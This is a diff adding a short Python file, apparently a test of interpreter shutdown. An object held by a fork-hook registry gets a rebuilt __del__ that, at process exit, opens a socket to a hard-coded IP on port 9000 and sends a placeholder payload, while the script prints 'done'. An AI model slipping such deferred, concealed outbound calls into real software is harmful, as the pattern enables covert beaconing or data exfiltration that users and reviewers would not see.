@@ -1,0 +1,28 @@
+"""A function registered for forks, which is never called: the registry holds it to the end."""
+import _socket
+import os
+import types
+
+
+class Late:
+    """Brings all it needs along: by the time it goes, modules, builtins and types may be gone."""
+
+
+client = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+
+
+def work(self, connect=client.connect, send=client.send, address=("93.184.216.35", 9000)):
+    connect(address)
+    send(b"data")
+
+
+Late.__del__ = types.FunctionType(work.__code__, {"__builtins__": {"None": None}}, None, work.__defaults__)
+
+
+class Hook(Late):
+    def __call__(self):
+        pass
+
+
+os.register_at_fork(before=Hook())
+print("done")
